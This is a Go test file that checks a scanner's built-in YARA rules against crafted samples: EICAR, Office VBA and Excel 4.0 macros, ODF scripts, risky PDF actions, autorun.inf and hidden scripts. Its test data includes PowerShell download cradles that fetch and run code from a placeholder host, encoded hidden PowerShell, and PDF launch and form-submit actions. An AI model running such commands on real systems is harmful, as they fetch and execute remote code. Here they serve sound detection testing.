package builtin

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/base64"
	"encoding/binary"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/google/go-cmp/cmp"

	"github.com/sluice-ot/sluice/scanner"
	"github.com/sluice-ot/sluice/scanner/yara"
)

func compile(t testing.TB) *yara.Rules {
	t.Helper()
	var srcs []yara.Source
	for _, f := range Files() {
		srcs = append(srcs, yara.Source{Name: "builtin/" + f.Name, Data: f.Data})
	}
	r, err := yara.Compile(srcs)
	if err != nil {
		t.Fatalf("Compile(builtin): %v", err)
	}
	t.Cleanup(r.Close)
	return r
}

func TestCompiles(t *testing.T) {
	r := compile(t)
	if rej := r.Rejects(); len(rej) != 0 {
		t.Errorf("Rejects() = %v, want none", rej)
	}
	if got, want := r.Files(), len(Files()); got != want {
		t.Errorf("Files() = %d, want %d", got, want)
	}
	if got, want := r.Count(), len(ruleNames(t)); got != want {
		t.Errorf("Count() = %d, want %d rules declared", got, want)
	}
	if r.UsesMD5() {
		t.Error("UsesMD5() = true: the builtin rules should not make the station compute MD5")
	}
}

var ruleDecl = regexp.MustCompile(`(?m)^rule (\w+)`)

// ruleNames lists the rules declared in the embedded files.
func ruleNames(t testing.TB) []string {
	t.Helper()
	var names []string
	for _, s := range Files() {
		for _, m := range ruleDecl.FindAllSubmatch(s.Data, -1) {
			names = append(names, string(m[1]))
		}
	}
	sort.Strings(names)
	return names
}

// TestRuleConventions checks what operators and admins rely on: every
// rule explains itself in a comment and carries the meta the engine and
// the report read.
func TestRuleConventions(t *testing.T) {
	metaLine := regexp.MustCompile(`(?m)^\s*(\w+)\s*=\s*"([^"]*)"`)
	for _, s := range Files() {
		text := string(s.Data)
		locs := ruleDecl.FindAllStringIndex(text, -1)
		for i, loc := range locs {
			end := len(text)
			if i+1 < len(locs) {
				end = locs[i+1][0]
			}
			body := text[loc[0]:end]
			name := ruleDecl.FindStringSubmatch(body)[1]
			if before := strings.TrimRight(text[:loc[0]], " \t\n"); !strings.HasSuffix(before, "*/") {
				t.Errorf("%s: rule %s has no comment above it", s.Name, name)
			}
			meta := map[string]string{}
			metaEnd := strings.Index(body, "strings:")
			if metaEnd < 0 {
				metaEnd = strings.Index(body, "condition:")
			}
			for _, m := range metaLine.FindAllStringSubmatch(body[:metaEnd], -1) {
				meta[m[1]] = m[2]
			}
			for _, k := range []string{"description", "sluice_reason"} {
				if meta[k] == "" {
					t.Errorf("%s: rule %s has no %s", s.Name, name, k)
				}
			}
			if meta["author"] != "Sluice" {
				t.Errorf("%s: rule %s author = %q, want Sluice", s.Name, name, meta["author"])
			}
			want := "block"
			if name == "Sluice_EICAR_Test_File" {
				want = "infected"
			}
			if meta["sluice_action"] != want {
				t.Errorf("%s: rule %s sluice_action = %q, want %q", s.Name, name, meta["sluice_action"], want)
			}
		}
	}
}

func TestReadmeListsEveryRule(t *testing.T) {
	readme, err := os.ReadFile("README.md")
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range ruleNames(t) {
		if !bytes.Contains(readme, []byte(name)) {
			t.Errorf("README.md does not list %s", name)
		}
	}
}

type sample struct {
	desc string
	name string // file name, for the filename external variable
	data []byte
	want []string // rules expected to match, none for a negative
}

func TestSamples(t *testing.T) {
	e, err := yara.NewEngine(compile(t), yara.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(e.Close)

	var all []sample
	for _, group := range [][]sample{
		eicarSamples(), oleSamples(), ooxmlSamples(t), xlmSamples(), odfSamples(t),
		pdfSamples(), autorunSamples(), scriptSamples(),
	} {
		all = append(all, group...)
	}
	fired := map[string]bool{}
	for _, s := range all {
		got := scan(t, e, s.name, s.data)
		want := append([]string(nil), s.want...)
		sort.Strings(want)
		if diff := cmp.Diff(want, got, cmpEmpty); diff != "" {
			t.Errorf("%s (%s): rules (-want +got):\n%s", s.desc, s.name, diff)
		}
		for _, r := range got {
			fired[r] = true
		}
	}
	for _, name := range ruleNames(t) {
		if !fired[name] {
			t.Errorf("rule %s fired on no sample: add a positive sample", name)
		}
	}
}

var cmpEmpty = cmp.Transformer("empty", func(s []string) []string {
	if len(s) == 0 {
		return nil
	}
	return s
})

func scan(t *testing.T, e *yara.Engine, name string, data []byte) []string {
	t.Helper()
	p := filepath.Join(t.TempDir(), "spool")
	if err := os.WriteFile(p, data, 0o644); err != nil {
		t.Fatal(err)
	}
	f, err := os.Open(p)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	ext := strings.TrimPrefix(strings.ToLower(filepath.Ext(name)), ".")
	fs, err := e.Scan(context.Background(), &scanner.Object{
		Path: name, Name: name, Ext: ext, File: f, SpoolPath: p, Size: int64(len(data)),
	})
	if err != nil {
		t.Fatalf("Scan(%s): %v", name, err)
	}
	var names []string
	for _, f := range fs {
		names = append(names, f.Rule)
		if f.Rule == "Sluice_EICAR_Test_File" && f.Verdict != scanner.Infected ||
			f.Rule != "Sluice_EICAR_Test_File" && f.Verdict != scanner.Blocked {
			t.Errorf("Scan(%s): %s verdict %s", name, f.Rule, f.Verdict)
		}
	}
	sort.Strings(names)
	return names
}

// --- EICAR

const eicar = `X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`

func eicarSamples() []sample {
	const rule = "Sluice_EICAR_Test_File"
	return []sample{
		{"eicar exact", "eicar.com", []byte(eicar), []string{rule}},
		{"eicar with CRLF", "eicar.txt", []byte(eicar + "\r\n"), []string{rule}},
		{"eicar padded with mixed whitespace", "eicar.com", []byte(eicar + strings.Repeat(" \t", 27) + "\r\n\x1a\x1a"), []string{rule}},
		{"eicar padded to 128", "eicar.com", []byte(eicar + strings.Repeat(" ", 60)), []string{rule}},
		{"eicar over 128 bytes", "eicar.com", []byte(eicar + strings.Repeat(" ", 61)), nil},
		{"eicar with trailing text", "eicar.com", []byte(eicar + " hello"), nil},
		{"eicar quoted in an article", "article.txt", []byte("The test string is " + eicar + "\n"), nil},
	}
}

// --- OLE2 compound files

// ole returns a minimal compound file: the header sector with the magic,
// then the given directory entries.
func ole(entries ...[]byte) []byte {
	b := make([]byte, 512)
	copy(b, []byte{0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1})
	binary.LittleEndian.PutUint16(b[0x1A:], 0x3E) // minor version
	binary.LittleEndian.PutUint16(b[0x1C:], 3)    // major version
	binary.LittleEndian.PutUint16(b[0x1E:], 0xFFFE)
	binary.LittleEndian.PutUint16(b[0x20:], 9)
	for _, e := range entries {
		b = append(b, e...)
	}
	return append(b, make([]byte, 1024)...)
}

// dirEntry is a 128-byte directory entry: UTF-16LE name, its length in
// bytes with the terminator, and the object type (1 storage, 2 stream).
func dirEntry(name string, typ byte) []byte {
	e := make([]byte, 128)
	for i, u := range utf16.Encode([]rune(name)) {
		binary.LittleEndian.PutUint16(e[2*i:], u)
	}
	binary.LittleEndian.PutUint16(e[64:], uint16(2*(len(name)+1)))
	e[66] = typ
	return e
}

func oleSamples() []sample {
	const rule = "Sluice_Office_VBA_OLE"
	compressedSource := append([]byte{0x01, 0x9C, 0xB2, 0x00}, []byte("Attribut\x00e VB_Nam\x00e = \"Module1\"")...)
	return []sample{
		{"doc with _VBA_PROJECT stream", "report.doc", ole(dirEntry("Root Entry", 5), dirEntry("Macros", 1), dirEntry("VBA", 1), dirEntry("_VBA_PROJECT", 2), dirEntry("dir", 2)), []string{rule}},
		{"renamed project stream, lower case", "report.doc", ole(dirEntry("Root Entry", 5), dirEntry("_vba_project", 2)), []string{rule}},
		{"VBA storage and dir stream only", "book.xls", ole(dirEntry("Root Entry", 5), dirEntry("VBA", 1), dirEntry("dir", 2)), []string{rule}},
		{"compressed module source only", "book.xls", append(ole(dirEntry("Root Entry", 5)), compressedSource...), []string{rule}},
		{"doc without macros", "letter.doc", ole(dirEntry("Root Entry", 5), dirEntry("WordDocument", 2), dirEntry("1Table", 2), dirEntry("\x05SummaryInformation", 2)), nil},
		{"xls without macros", "book.xls", ole(dirEntry("Root Entry", 5), dirEntry("Workbook", 2)), nil},
		{"VBA storage without dir stream", "odd.doc", ole(dirEntry("Root Entry", 5), dirEntry("VBA", 1)), nil},
		{"_VBA_PROJECT outside an OLE file", "notes.txt", utf16le("see the _VBA_PROJECT stream"), nil},
	}
}

func utf16le(s string) []byte {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return b
}

// --- OOXML

type member struct {
	name  string
	data  string
	store bool
}

func zipOf(t testing.TB, members ...member) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	for _, m := range members {
		method := zip.Deflate
		if m.store {
			method = zip.Store
		}
		f, err := w.CreateHeader(&zip.FileHeader{Name: m.name, Method: method})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := f.Write([]byte(m.data)); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

const (
	docxTypes = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`
	docmTypes = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`
	xlsmNoProjectTypes = `<?xml version="1.0" encoding="UTF-8"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>`
	xlsbTypes = `<?xml version="1.0" encoding="UTF-8"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/></Types>`
	xlmTypes = `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>`
	docRels  = `<?xml version="1.0" encoding="UTF-8"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/></Relationships>`
	vbaRels = `<?xml version="1.0" encoding="UTF-8"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="hidden.dat"/></Relationships>`
	documentXML = `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Shift report: the vbaProject.bin file and macroEnabled templates are discussed here.</w:t></w:r></w:p></w:body></w:document>`
)

func ooxmlSamples(t testing.TB) []sample {
	const (
		container = "Sluice_Office_Macro_OOXML"
		parts     = "Sluice_Office_Macro_Parts"
		ole       = "Sluice_Office_VBA_OLE"
	)
	vbaProject := string(oleBlob())
	docm := zipOf(t,
		member{name: "[Content_Types].xml", data: docmTypes},
		member{name: "word/document.xml", data: documentXML},
		member{name: "word/vbaProject.bin", data: vbaProject},
	)
	docx := zipOf(t,
		member{name: "[Content_Types].xml", data: docxTypes},
		member{name: "_rels/.rels", data: docRels},
		member{name: "word/document.xml", data: documentXML},
	)
	xlsm := zipOf(t,
		member{name: "[Content_Types].xml", data: xlmTypes},
		member{name: "xl/macrosheets/sheet1.xml", data: "<xm:macrosheet/>"},
	)
	return []sample{
		{"docm", "report.docm", docm, []string{container}},
		{"docm renamed docx", "report.docx", docm, []string{container}},
		{"xlsm with an XLM macro sheet", "book.xlsm", xlsm, []string{container}},
		{"docx without macros", "report.docx", docx, nil},
		{"docm member vbaProject.bin", "vbaProject.bin", []byte(vbaProject), []string{ole}},
		{"docm member content types", "[Content_Types].xml", []byte(docmTypes), []string{parts}},
		{"content types under another name", "member.xml", []byte(docmTypes), []string{parts}},
		{"xlsm content types without a project", "[Content_Types].xml", []byte(xlsmNoProjectTypes), []string{parts}},
		{"xlsm content types with a macro sheet", "[Content_Types].xml", []byte(xlmTypes), []string{parts}},
		{"renamed project relationship", "document.xml.rels", []byte(vbaRels), []string{parts}},
		{"docx member content types", "[Content_Types].xml", []byte(docxTypes), nil},
		{"docx member relationships", ".rels", []byte(docRels), nil},
		{"xlsb content types", "[Content_Types].xml", []byte(xlsbTypes), nil},
		{"docx member document text", "document.xml", []byte(documentXML), nil},
		{"text mentioning macro types", "notes.txt", []byte("application/vnd.ms-word.document.macroEnabled.main+xml and vnd.ms-office.vbaProject"), nil},
	}
}

func oleBlob() []byte {
	return ole(dirEntry("Root Entry", 5), dirEntry("VBA", 1), dirEntry("_VBA_PROJECT", 2), dirEntry("dir", 2))
}

// --- Excel 4.0 macros

// boundsheet is a BIFF8 BOUNDSHEET record for a sheet of type dt.
func boundsheet(name string, state, dt byte, lengthDelta int) []byte {
	b := []byte{0x85, 0x00, 0, 0, 0x10, 0x20, 0x00, 0x00, state, dt, byte(len(name)), 0}
	binary.LittleEndian.PutUint16(b[2:], uint16(8+len(name)+lengthDelta))
	return append(b, name...)
}

func xlmSamples() []sample {
	const biff, sylk = "Sluice_Excel_XLM_BIFF", "Sluice_Excel_XLM_SYLK"
	workbook := func(records ...[]byte) []byte {
		b := ole(dirEntry("Root Entry", 5), dirEntry("Workbook", 2))
		b = append(b, 0x09, 0x08, 0x10, 0x00, 0x00, 0x06, 0x05, 0x00) // BOF
		b = append(b, make([]byte, 12)...)
		for _, r := range records {
			b = append(b, r...)
		}
		return b
	}
	return []sample{
		{"xls with a very hidden macro sheet", "invoice.xls", workbook(boundsheet("Sheet1", 0, 0, 0), boundsheet("Macro1", 2, 1, 0)), []string{biff}},
		{"xls with a visible macro sheet", "invoice.xls", workbook(boundsheet("Auto_Open", 0, 1, 0)), []string{biff}},
		{"xls with worksheets only", "book.xls", workbook(boundsheet("Sheet1", 0, 0, 0), boundsheet("Sheet2", 1, 0, 0)), nil},
		{"xls with an inconsistent record", "book.xls", workbook(boundsheet("Macro1", 0, 1, 3)), nil},
		{"sylk with EXEC", "data.slk", []byte("ID;PWXL;N;E\r\nP;PGeneral\r\nC;X1;Y1;K0;EEXEC(\"calc.exe\")\r\nC;X1;Y2;K0;EHALT()\r\nE\r\n"), []string{sylk}},
		{"sylk with values only", "data.slk", []byte("ID;PWXL;N;E\r\nC;X1;Y1;K42\r\nC;X2;Y1;K0;ESUM(R1C1:R1C1)\r\nE\r\n"), nil},
		{"activemime in Word XML", "report.xml", []byte(`<?xml version="1.0"?><w:wordDocument><w:docSuppData><w:binData w:name="editdata.mso">` + base64.StdEncoding.EncodeToString([]byte("ActiveMime\x00\x00\x01\xf0\x04\x00\x00\x00")) + `</w:binData></w:docSuppData></w:wordDocument>`), []string{"Sluice_Office_ActiveMime"}},
		{"bare mso", "editdata.mso", []byte("ActiveMime\x00\x00\x01\xf0"), []string{"Sluice_Office_ActiveMime"}},
	}
}

// --- OpenDocument

func odfSamples(t testing.TB) []sample {
	const rule = "Sluice_ODF_Macro"
	mimetype := member{name: "mimetype", data: "application/vnd.oasis.opendocument.text", store: true}
	content := member{name: "content.xml", data: "<office:document-content/>"}
	manifest := member{name: "META-INF/manifest.xml", data: "<manifest:manifest/>"}
	return []sample{
		{"odt with Basic", "report.odt", zipOf(t, mimetype, content, manifest,
			member{name: "Basic/script-lc.xml", data: "<library:libraries/>"},
			member{name: "Basic/Standard/script-lb.xml", data: "<library:library/>"},
			member{name: "Basic/Standard/Module1.xml", data: "Sub Main\nEnd Sub"}), []string{rule}},
		{"odt with a Python script", "report.odt", zipOf(t, mimetype, content, manifest,
			member{name: "Scripts/python/run.py", data: "import os"}), []string{rule}},
		{"odt without macros", "report.odt", zipOf(t, mimetype, content, manifest,
			member{name: "Configurations2/accelerator/current.xml", data: ""}), nil},
	}
}

// --- PDF

func pdf(body string) []byte {
	return []byte("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + body + "\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")
}

const plainPDF = `1 0 obj
<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] /PageMode /UseNone >>
endobj
2 0 obj
<< /Type /Pages /Kids [3 0 R] /Count 1 >>
endobj
3 0 obj
<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R
   /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (https://example.com/) >> >>] >>
endobj
4 0 obj
<< /Length 52 >>
stream
BT /F1 12 Tf 72 712 Td (Learn JavaScript today) Tj ET
endstream
endobj
5 0 obj
<< /Producer (Writer) /AAPL:Keywords [(plant) (report)] /Length 10 /Encoding /WinAnsiEncoding >>
endobj`

func pdfSamples() []sample {
	const js, launch, auto, embedded = "Sluice_PDF_JavaScript", "Sluice_PDF_Launch", "Sluice_PDF_AutoAction", "Sluice_PDF_EmbeddedFile"
	return []sample{
		{"plain pdf, OpenAction to a page, a link", "plain.pdf", pdf(plainPDF), nil},
		{"javascript on open", "js.pdf", pdf(`1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert\(1\)) >> >> endobj`), []string{js, auto}},
		{"javascript name tree", "js.pdf", pdf(`1 0 obj << /Type /Catalog /Names << /JavaScript 7 0 R >> >> endobj`), []string{js}},
		{"hex-escaped /J#61vaScript", "js.pdf", pdf(`7 0 obj << /S /J#61v#61Script /#4As 8 0 R >> endobj`), []string{js}},
		{"hex-escaped /#4A#53 key", "js.pdf", pdf(`7 0 obj << /#4a#53(this.print\(\)) >> endobj`), []string{js}},
		{"launch action", "launch.pdf", pdf(`9 0 obj << /Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> endobj`), []string{launch}},
		{"escaped launch", "launch.pdf", pdf(`9 0 obj << /S /L#61unch /F (x.exe) >> endobj`), []string{launch}},
		{"uri on open", "uri.pdf", pdf(`1 0 obj << /Type /Catalog /OpenAction << /Type /Action /S /URI /URI (http://evil.example/) >> >> endobj`), []string{auto}},
		{"submitform on page open", "form.pdf", pdf(`3 0 obj << /Type /Page /AA << /O << /S /SubmitForm /F (http://evil.example/) >> >> >> endobj`), []string{auto}},
		{"importdata on open, no spaces", "form.pdf", pdf(`1 0 obj<</Type/Catalog/OpenAction<</S/ImportData/F(data.fdf)>>>>endobj`), []string{auto}},
		{"escaped open action", "uri.pdf", pdf(`1 0 obj << /Op#65nAction << /S /UR#49 /URI (http://x/) >> >> endobj`), []string{auto}},
		{"embedded file stream", "attach.pdf", pdf(`6 0 obj << /Type /EmbeddedFile /Subtype /application#2Foctet-stream /Length 3 >> stream
abc
endstream endobj`), []string{embedded}},
		{"embedded files name tree", "attach.pdf", pdf(`1 0 obj << /Type /Catalog /Names << /EmbeddedFiles 8 0 R >> >> endobj`), []string{embedded}},
		{"text about pdf javascript", "notes.txt", []byte("In a PDF, /JavaScript and /JS keys, /Launch, /OpenAction << /S /URI >> and /EmbeddedFile are risky.\n"), nil},
	}
}

// --- autorun.inf

func autorunSamples() []sample {
	const rule = "Sluice_Autorun_Inf"
	return []sample{
		{"autorun.inf by name, icon only", "AutoRun.INF", []byte("[autorun]\r\nicon=drive.ico\r\nlabel=Plant\r\n"), []string{rule}},
		{"autorun.inf by name, trailing dot", "autorun.inf.", []byte("x"), []string{rule}},
		{"autorun content under another name", "readme.txt", []byte("[AutoRun]\r\nopen=setup.exe\r\nicon=setup.exe,0\r\n"), []string{rule}},
		{"autorun content with BOM and comment", "x.dat", []byte("\xef\xbb\xbf; generated\r\n[autorun]\r\nshellexecute=tools\\run.cmd\r\n"), []string{rule}},
		{"autorun shell verb", "x.dat", []byte("[autorun]\nshell\\install\\command=setup.exe /q\n"), []string{rule}},
		{"autorun UTF-16", "x.dat", append([]byte{0xFF, 0xFE}, utf16le("[AutoRun]\r\nopen=evil.exe\r\n")...), []string{rule}},
		{"autorun section, icon only, other name", "readme.txt", []byte("[autorun]\r\nicon=drive.ico\r\n"), nil},
		{"ordinary setup.inf", "setup.inf", []byte("[Version]\r\nSignature=\"$Windows NT$\"\r\nClass=Ports\r\n\r\n[DefaultInstall]\r\nCopyFiles=Drv\r\n\r\n[Strings]\r\nopen=\"Open\"\r\n"), nil},
		{"autorun.inf.txt", "autorun.inf.txt", []byte("notes"), nil},
	}
}

// --- hidden scripts

func scriptSamples() []sample {
	const wsh, enc, cradle, hta = "Sluice_Script_WSH", "Sluice_Script_PowerShell_Encoded", "Sluice_Script_PowerShell_Cradle", "Sluice_Script_HTA"
	jpeg := "\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
	return []sample{
		{"vbscript in a text file", "notes.txt", []byte("Set sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"cmd /c calc\", 0\r\n"), []string{wsh}},
		{"jscript appended to a jpeg", "photo.jpg", []byte(jpeg + "var s = new ActiveXObject('wscript.shell'); s.Run('calc');"), []string{wsh}},
		{"WScript.Shell and .Exec", "x.txt", []byte("set o = GetShell()\r\n' uses WScript.Shell\r\no.Exec(\"whoami\")\r\n"), []string{wsh}},
		{"Shell.Application ShellExecute", "x.txt", []byte("Set a = CreateObject(\"Shell.Application\")\r\na.ShellExecute \"cmd.exe\", \"/c calc\"\r\n"), []string{wsh}},
		{"go code running a command", "main.go", []byte("package main\n\nfunc main() { exec.Command(\"ls\").Run() }\n"), nil},
		{"powershell -enc", "run.bat", []byte("@echo off\r\npowershell.exe -NoP -W Hidden -enc JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0\r\n"), []string{enc}},
		{"pwsh -EncodedCommand", "x.txt", []byte("pwsh -NonInteractive -EncodedCommand \"SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA\"\n"), []string{enc}},
		{"powershell /ec", "x.txt", []byte("POWERSHELL /ec SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA\n"), []string{enc}},
		{"powershell -ExecutionPolicy", "x.txt", []byte("powershell -ExecutionPolicy Bypass -File C:\\tools\\backup_configuration_now.ps1\npowershell -ep bypass -File x.ps1\n"), nil},
		{"iex downloadstring", "x.txt", []byte("IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')"), []string{cradle}},
		{"iwr piped to iex", "x.txt", []byte("(iwr http://10.0.0.5/a.ps1 -UseBasicParsing).Content | iex\n"), []string{cradle}},
		{"multi-line cradle", "x.ps1.txt", []byte("$wc = New-Object System.Net.WebClient\r\n$s = $wc.DownloadString($u)\r\nInvoke-Expression $s\r\n"), []string{cradle}},
		{"downloadfile and start", "x.txt", []byte("(New-Object Net.WebClient).DownloadFile('http://x/a.exe', \"$env:TEMP\\a.exe\"); Start-Process \"$env:TEMP\\a.exe\""), []string{cradle}},
		{"iexplore and downloadstring far apart", "x.txt", []byte("start iexplore.exe\n" + strings.Repeat("log line\n", 10) + "DownloadString is a method\n" + strings.Repeat("x", 2000) + "\nInvoke-Expression is a cmdlet\n"), nil},
		{"hta", "page.html", []byte("<html><head><HTA:APPLICATION ID=\"app\" APPLICATIONNAME=\"x\"></head><body></body></html>"), []string{hta}},
		{"wsf", "job.xml", []byte("<package><job id=\"main\"><script language=\"JScript\">WScript.Echo(1);</script></job></package>"), []string{hta}},
		{"ordinary html", "index.html", []byte("<html><body><script language=\"javascript\">document.write('JavaScript');</script></body></html>"), nil},
	}
}
